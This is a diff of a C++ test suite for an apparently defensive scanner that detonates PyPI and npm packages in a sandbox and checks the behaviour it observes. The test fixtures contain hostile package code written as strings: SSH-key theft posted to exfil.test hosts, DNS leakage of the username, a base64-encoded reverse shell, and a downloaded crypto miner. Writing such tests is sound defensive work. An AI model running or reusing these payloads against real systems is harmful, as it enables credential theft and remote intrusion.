@@ -8,6 +8,7 @@
 #include <nlohmann/json.hpp>
 
 #include "adapters/scanners/behavior.h"
+#include "hostile_packages.h"
 #include "real_scanners.h"
 #include "wire/base64.h"
 
@@ -15,29 +16,6 @@ namespace batlehub::testing {
 namespace {
 
 using nlohmann::json;
-
-std::string sdist(const std::string& name, std::vector<TestEntry> files) {
-  std::vector<TestEntry> entries = {dir(name + "-1.0/")};
-  for (TestEntry& f : files) {
-    f.name = name + "-1.0/" + f.name;
-    entries.push_back(std::move(f));
-  }
-  return make_tgz(entries);
-}
-
-std::string npm_package(std::vector<TestEntry> files) {
-  std::vector<TestEntry> entries = {dir("package/")};
-  for (TestEntry& f : files) {
-    f.name = "package/" + f.name;
-    entries.push_back(std::move(f));
-  }
-  return make_tgz(entries);
-}
-
-std::string setup_py(const std::string& name, const std::string& before, const std::string& extra = "") {
-  return "from setuptools import setup\n" + before + "\nsetup(name='" + name + "', version='1.0', packages=['" + name +
-         "']" + extra + ")\n";
-}
 
 // The first phase record named `name` (every PyPI detonation has prepare, install, then an
 // import and an execute per module).
@@ -145,7 +123,7 @@ TEST_F(BehaviorReal, a_setup_py_that_reads_the_decoy_key_and_posts_it_is_seen_wi
       "except Exception as e:\n"
       "    print('post failed', e)\n";
   json t =
-      detonate("pypi", sdist("keysend", {file("setup.py", setup_py("keysend", pre)), file("keysend/__init__.py", "")}));
+      detonate("pypi", behavior_sdist("keysend", {file("setup.py", behavior_setup_py("keysend", pre)), file("keysend/__init__.py", "")}));
   ASSERT_TRUE(t.contains("events"));
   auto decoys = events(t, "decoy-open", "install");
   ASSERT_FALSE(decoys.empty()) << t.dump(1);
@@ -171,7 +149,7 @@ TEST_F(BehaviorReal, a_postinstall_that_resolves_a_name_carrying_the_user_is_see
   BATLEHUB_NEED_BWRAP();
   const std::string pj = R"({"name":"hostname-dns","version":"1.0.0","scripts":{"postinstall":
     "node -e \"require('dns').lookup(require('os').userInfo().username + '.' + process.env.npm_package_name + '.dns.exfil.test', () => {})\""}})";
-  json t = detonate("npm", npm_package({file("package.json", pj), file("index.js", "module.exports = 1;\n")}));
+  json t = detonate("npm", behavior_npm_package({file("package.json", pj), file("index.js", "module.exports = 1;\n")}));
   ASSERT_TRUE(t.contains("events"));
   std::string asked;
   bool identity = false;
@@ -199,7 +177,7 @@ TEST_F(BehaviorReal, an_import_that_execs_decoded_text_opening_a_shell_on_a_conn
       "s.sendall(b'hello from ' + os.uname().nodename.encode())\n"
       "subprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n";
   const std::string init = "import base64\nexec(base64.b64decode('" + wire::base64_encode(payload) + "'))\n";
-  json t = detonate("pypi", sdist("revsh", {file("setup.py", setup_py("revsh", "")), file("revsh/__init__.py", init)}),
+  json t = detonate("pypi", behavior_sdist("revsh", {file("setup.py", behavior_setup_py("revsh", "")), file("revsh/__init__.py", init)}),
                     "4000");
   ASSERT_TRUE(t.contains("events"));
   EXPECT_TRUE(events(t, "connect", "install").empty()) << "nothing connects at install";
@@ -226,7 +204,7 @@ TEST_F(BehaviorReal, an_import_that_never_ends_is_bounded_and_what_it_leaves_run
       "import subprocess, time\n"
       "subprocess.Popen(['/bin/sh', '-c', 'while :; do :; done'], start_new_session=True)\n";
   json t =
-      detonate("pypi", sdist("daemon", {file("setup.py", setup_py("daemon", "")), file("daemon/__init__.py", init)}));
+      detonate("pypi", behavior_sdist("daemon", {file("setup.py", behavior_setup_py("daemon", "")), file("daemon/__init__.py", init)}));
   ASSERT_TRUE(t.contains("phases"));
   EXPECT_EQ(phase_named(t, "import").value("timed_out", true), false);
   auto left = events(t, "left-running", "import");
@@ -235,7 +213,7 @@ TEST_F(BehaviorReal, an_import_that_never_ends_is_bounded_and_what_it_leaves_run
 
   const std::string forever = "import time\nwhile True:\n    time.sleep(1)\n";
   json u = detonate("pypi",
-                    sdist("forever", {file("setup.py", setup_py("forever", "")), file("forever/__init__.py", forever)}),
+                    behavior_sdist("forever", {file("setup.py", behavior_setup_py("forever", "")), file("forever/__init__.py", forever)}),
                     "1500");
   ASSERT_TRUE(u.contains("phases"));
   EXPECT_EQ(phase_named(u, "import").value("timed_out", false), true);
@@ -250,7 +228,7 @@ TEST_F(BehaviorReal, a_package_that_floods_the_trace_is_cut_at_its_bound_and_say
       "arg = 'x' * 1000\n"
       "for i in range(400):\n"
       "    subprocess.call(['/usr/bin/env'] + [arg] * 64)\n";
-  json t = detonate("pypi", sdist("flood", {file("setup.py", setup_py("flood", "")), file("flood/__init__.py", init)}));
+  json t = detonate("pypi", behavior_sdist("flood", {file("setup.py", behavior_setup_py("flood", "")), file("flood/__init__.py", init)}));
   ASSERT_TRUE(t.contains("events"));
   bool said = false;
   for (const json& e : t.at("events")) {
@@ -270,8 +248,8 @@ TEST_F(BehaviorReal, a_function_that_sends_the_decoy_key_when_called_is_seen_in_
       "def upload(target):\n"
       "    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
       "    urllib.request.urlopen('http://keys.exfil.test/u', data=key.encode(), timeout=5)\n";
-  const std::string archive = sdist(
-      "onlywhencalled", {file("setup.py", setup_py("onlywhencalled", "")), file("onlywhencalled/__init__.py", init)});
+  const std::string archive = behavior_sdist(
+      "onlywhencalled", {file("setup.py", behavior_setup_py("onlywhencalled", "")), file("onlywhencalled/__init__.py", init)});
   json t = detonate("pypi", archive);
   ASSERT_TRUE(t.contains("events"));
   EXPECT_TRUE(events(t, "stream", "import").empty()) << "nothing is sent at import";
@@ -295,7 +273,7 @@ TEST_F(BehaviorReal, a_download_made_executable_and_run_is_seen_as_a_program_sta
       " '--donate-level', '1'])\n"
       "except OSError as e:\n"
       "    print('run failed', e)\n";
-  json t = detonate("pypi", sdist("miner", {file("setup.py", setup_py("miner", pre)), file("miner/__init__.py", "")}));
+  json t = detonate("pypi", behavior_sdist("miner", {file("setup.py", behavior_setup_py("miner", pre)), file("miner/__init__.py", "")}));
   ASSERT_TRUE(t.contains("events"));
   bool fetched = false;
   for (const json& e : events(t, "stream", "install"))
@@ -305,6 +283,7 @@ TEST_F(BehaviorReal, a_download_made_executable_and_run_is_seen_as_a_program_sta
   for (const json& e : events(t, "exec", "install")) {
     if (e.at("resolved") != "/work/tmp/xmrig") continue;
     ran = true;
+    EXPECT_EQ(e.value("written", false), true) << "the program is the file the run downloaded: " << e.dump();
     EXPECT_EQ(e.at("argv")[1], "-o");
     EXPECT_EQ(e.at("argv")[2], "pool.exfil.test:3333");
   }
@@ -314,7 +293,7 @@ TEST_F(BehaviorReal, a_download_made_executable_and_run_is_seen_as_a_program_sta
 TEST_F(BehaviorReal, a_native_package_whose_build_fails_without_a_compiler_does_nothing_the_trace_would_hold) {
   BATLEHUB_NEED_BWRAP();
   json t = detonate(
-      "pypi", sdist("fastext", {file("setup.py", setup_py("fastext", "from setuptools import Extension",
+      "pypi", behavior_sdist("fastext", {file("setup.py", behavior_setup_py("fastext", "from setuptools import Extension",
                                                           ", ext_modules=[Extension('fastext._c', "
                                                           "['fastext/_c.c'])]")),
                                 file("fastext/__init__.py", ""), file("fastext/_c.c", "int f(void) { return 1; }\n")}));
@@ -328,17 +307,13 @@ TEST_F(BehaviorReal, a_native_package_whose_build_fails_without_a_compiler_does_
   }
 }
 
-TEST_F(BehaviorReal, through_the_scanner_the_key_posted_at_install_is_critical_and_the_read_high) {
+// Issue 47's hostile packages (hostile_packages.h) through the scanner, as the worker runs
+// it: each finding with its severity and its evidence, and none for a native build that fails
+// or an ordinary package. The same list runs on podman, docker and Kubernetes.
+TEST_F(BehaviorReal, the_issue_s_hostile_packages_give_their_findings_with_their_evidence_under_bwrap) {
   BATLEHUB_NEED_BWRAP();
-  const std::string pre =
-      "import os, urllib.request\n"
-      "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
-      "urllib.request.urlopen('http://collect.exfil.test/k', data=key.encode(), timeout=5)\n";
-  auto got = findings(core::PackageKind::kPypi,
-                      sdist("keysend", {file("setup.py", setup_py("keysend", pre)), file("keysend/__init__.py", "")}));
-  EXPECT_EQ(got["behavior-canary-sent"], core::Severity::kCritical);
-  EXPECT_EQ(got["behavior-token-store-read"], core::Severity::kHigh);
-  EXPECT_EQ(got["behavior-network-at-install"], core::Severity::kMedium);
+  auto rt = bwrap_runtime(*scratch_, rooms_);
+  expect_the_hostile_packages_found(*rt, "under bwrap");
 }
 
 TEST_F(BehaviorReal, a_wheel_s_pth_file_runs_at_every_interpreter_start_and_is_seen_at_import) {
@@ -365,21 +340,6 @@ TEST_F(BehaviorReal, a_wheel_s_pth_file_runs_at_every_interpreter_start_and_is_s
     asked = asked || (e.at("host").get<std::string>().ends_with(".pth.exfil.test") && e.value("identity", false));
   }
   EXPECT_TRUE(asked) << "the host's name, asked of the resolver by the .pth at the import's start: " << t.dump(1);
-}
-
-TEST_F(BehaviorReal, through_the_scanner_an_ordinary_package_gives_no_finding) {
-  BATLEHUB_NEED_BWRAP();
-  auto py =
-      findings(core::PackageKind::kPypi,
-               sdist("plain", {file("setup.py", setup_py("plain", "")),
-                               file("plain/__init__.py", "import json, os\nVALUE = json.dumps({'a': os.sep})\n")}));
-  EXPECT_TRUE(py.empty());
-  const std::string pj = R"({"name":"plain","version":"1.0.0","main":"index.js",
-    "scripts":{"postinstall":"node -e \"require('fs').writeFileSync('built.txt', 'ok')\""}})";
-  auto js =
-      findings(core::PackageKind::kNpm,
-               npm_package({file("package.json", pj), file("index.js", "module.exports = require('path').sep;\n")}));
-  EXPECT_TRUE(js.empty());
 }
 
 // The probe's check of the observer (issue 47 point 5): in the room, the self-test's helper
